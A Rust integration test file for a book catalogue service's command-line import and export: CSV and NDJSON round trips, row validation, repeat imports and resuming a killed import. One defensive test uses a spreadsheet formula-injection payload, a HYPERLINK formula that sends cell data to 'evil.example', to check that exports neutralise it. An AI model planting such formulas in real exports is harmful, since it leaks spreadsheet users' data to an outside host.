//! Import and export, as an operator runs them.

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use books_service::entity::book::Entity;
use sea_orm::{DatabaseConnection, EntityTrait as _, PaginatorTrait as _};
use secrecy::{ExposeSecret as _, SecretString};
use shared::database;
use shared::testing::new_shared_database;

struct Operator {
    directory: tempfile::TempDir,
    url: SecretString,
}

impl Operator {
    async fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let url = new_shared_database(directory.path()).await;
        let operator = Self { directory, url };
        assert!(operator.run(&["migrate"]).status.success());
        operator
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_books-service"));
        let url = self.url.expose_secret();
        command.args(arguments).env_clear().env("BOOKS_DATABASE_URL", url);
        command.current_dir(self.directory.path()).stdout(Stdio::piped()).stderr(Stdio::piped());
        command
    }

    fn run(&self, arguments: &[&str]) -> Output {
        self.command(arguments).output().unwrap()
    }

    #[track_caller]
    fn does(&self, arguments: &[&str]) -> String {
        let output = self.run(arguments);
        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    }

    #[track_caller]
    fn refuses(&self, arguments: &[&str]) -> String {
        let output = self.run(arguments);
        assert_eq!(output.status.code(), Some(1), "{arguments:?}");
        String::from_utf8(output.stderr).unwrap()
    }

    fn write(&self, name: &str, text: &str) {
        fs::write(self.directory.path().join(name), text).unwrap();
    }

    fn read(&self, name: &str) -> String {
        fs::read_to_string(self.directory.path().join(name)).unwrap()
    }

    async fn database(&self) -> DatabaseConnection {
        database::connect("TEST", &self.url).await.unwrap()
    }

    async fn books(&self) -> u64 {
        Entity::find().count(&self.database().await).await.unwrap()
    }
}

#[tokio::test]
async fn what_was_exported_can_be_imported_elsewhere() {
    let operator = Operator::new().await;
    operator.write(
        "new.csv",
        "author,title\nJane Austen,\" Emma \"\n\"Le Guin, Ursula\",\"A \"\"quoted\"\"\nline\"\n鲁迅,呐喊\n",
    );
    assert_eq!(operator.does(&["import", "new.csv"]), "imported 3 book(s)\n");
    let ndjson = operator.does(&["export"]);
    assert_eq!(ndjson.lines().next(), Some(r#"{"id":1,"title":"Emma","author":"Jane Austen"}"#));
    operator.does(&["export", "all.csv"]);
    let again = operator.refuses(&["export", "all.csv"]);
    assert!(again.contains("--force replaces it"), "{again}");
    operator.does(&["export", "all.csv", "--force"]);

    let other = Operator::new().await;
    other.write("all.csv", &operator.read("all.csv"));
    other.does(&["import", "all.csv"]);
    assert_eq!(other.does(&["export"]), ndjson);
    // By another way in, and with what is there already.
    let mut import = other.command(&["import", "-", "--format", "ndjson", "--existing", "skip"]);
    let mut import = import.stdin(Stdio::piped()).spawn().unwrap();
    let more = format!("{ndjson}{}\n", r#"{"id":40,"title":"Kokoro","author":"Sōseki"}"#);
    import.stdin.take().unwrap().write_all(more.as_bytes()).unwrap();
    let said = import.wait_with_output().unwrap();
    assert_eq!(String::from_utf8(said.stdout).unwrap(), "imported 4 book(s), 3 of them left as they were\n");
    other.write("one.csv", "title,author\nPedro Páramo,Juan Rulfo\n");
    other.does(&["import", "one.csv"]);
    assert!(
        other.does(&["export"]).contains(r#"{"id":41,"title":"Pedro"#),
        "numbers go on behind those of the file"
    );
}

/// A librarian's title acts in no operator's spreadsheet.
#[tokio::test]
async fn a_formula_is_text_in_csv_and_itself_again_when_it_is_imported() {
    let operator = Operator::new().await;
    let books = [
        r#"{"id":1,"title":"=HYPERLINK(\"https://evil.example/\"&A1,\"x\")","author":"@SUM(1+1)"}"#,
        r#"{"id":2,"title":"-30-","author":"'tis"}"#,
        r#"{"id":3,"title":"'=quoted","author":"Jane Austen"}"#,
    ];
    let ndjson = format!("{}\n", books.join("\n"));
    operator.write("books.ndjson", &ndjson);
    operator.does(&["import", "books.ndjson"]);
    assert_eq!(operator.does(&["export"]), ndjson);
    let csv = operator.does(&["export", "--format", "csv"]);
    assert_eq!(
        csv,
        "id,title,author\n1,\"'=HYPERLINK(\"\"https://evil.example/\"\"&A1,\"\"x\"\")\",'@SUM(1+1)\n\
         2,'-30-,'tis\n3,''=quoted,Jane Austen\n"
    );
    let other = Operator::new().await;
    other.write("books.csv", &csv);
    other.does(&["import", "books.csv"]);
    assert_eq!(other.does(&["export"]), ndjson);
}

#[tokio::test]
async fn every_bad_row_is_told_and_then_nothing_is_imported() {
    let operator = Operator::new().await;
    operator.write("good.csv", "id,title,author\n7,Emma,Jane Austen\n");
    operator.does(&["import", "good.csv"]);
    operator.write(
        "bad.ndjson",
        &[
            r#"{"title":"Emma","author":"Jane Austen","id":8}"#,
            r#"{"title":"","author":"Jane Austen","id":9}"#,
            r#"{"title":"Emma","id":10}"#,
            r#"{"title":"Emma","author":"Jane Austen","id":7}"#,
            r#"{"title":"Emma","author":"Jane Austen","id":8}"#,
            r#"{"title":"Emma","author":"Jane Austen"}"#,
            r#"{"title":"Emma","author":"Jane Austen","id":9007199254740992}"#,
            r#"{"title":"Emma","author":"Jane Austen","id":11,"year":1815}"#,
            "nonsense",
        ]
        .join("\n"),
    );
    let said = operator.refuses(&["import", "bad.ndjson"]);
    for expected in [
        "bad.ndjson:2: title must not be empty",
        "bad.ndjson:3: author is required",
        "bad.ndjson:4: id 7 is taken",
        "bad.ndjson:5: id 8 is there twice in this file",
        "bad.ndjson:6: id must be in all rows or in none",
        "bad.ndjson:7: id must be a whole number from 1 to 9007199254740991",
        "bad.ndjson:8: has the member \"year\"",
        "bad.ndjson:9: is not JSON",
        "8 problem(s) in 9 row(s); nothing was imported",
    ] {
        assert!(said.contains(expected), "{expected}: {said}");
    }
    assert!(!said.contains("bad.ndjson:1:"), "{said}");
    assert_eq!(operator.books().await, 1);
    assert!(operator.refuses(&["import", "nothing.csv"]).contains("nothing.csv cannot be read"));
    assert!(operator.refuses(&["import", "good"]).contains("give --format"));
}

#[tokio::test]
async fn a_file_is_imported_once_and_again_only_if_asked() {
    let operator = Operator::new().await;
    operator.write("new.csv", "title,author\nEmma,Jane Austen\n");
    assert_eq!(
        operator.does(&["import", "--check", "new.csv"]),
        "1 row(s) are as they should be; nothing was imported\n"
    );
    operator.does(&["import", "new.csv"]);
    let said = operator.does(&["import", "new.csv"]);
    assert!(said.starts_with("nothing to do: new.csv was imported at 20"), "{said}");
    assert_eq!(operator.books().await, 1);
    operator.does(&["import", "--check", "--again", "new.csv"]);
    operator.does(&["import", "new.csv"]);
    assert_eq!(operator.books().await, 1, "to look is not to forget");
    operator.does(&["import", "--again", "new.csv"]);
    assert_eq!(operator.books().await, 2);
}

#[tokio::test]
async fn an_import_that_was_killed_is_finished_and_nothing_is_twice() {
    const ROWS: u64 = 30_000;
    let operator = Operator::new().await;
    let rows: String = (1..=ROWS).map(|number| format!("Book {number},Somebody\n")).collect();
    operator.write("many.csv", &format!("title,author\n{rows}"));
    let database = operator.database().await;
    let mut import = operator.command(&["import", "many.csv"]).spawn().unwrap();
    while Entity::find().count(&database).await.unwrap() < 1000 {
        assert!(import.try_wait().unwrap().is_none(), "it was over too soon");
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    import.kill().unwrap();
    import.wait().unwrap();
    let half = Entity::find().count(&database).await.unwrap();
    assert!(half < ROWS && half.is_multiple_of(500), "{half}");

    let output = operator.run(&["import", "--again", "many.csv"]);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        output.status.success() && said.contains(&format!("going on behind the {half} row(s)")),
        "{said}"
    );
    let titles: std::collections::HashSet<_> = operator
        .does(&["export"])
        .lines()
        .map(|line| line.split_once("title").unwrap().1.to_owned())
        .collect();
    assert_eq!((titles.len() as u64, operator.books().await), (ROWS, ROWS));
    assert!(Path::new(&operator.directory.path().join("many.csv")).exists());
}
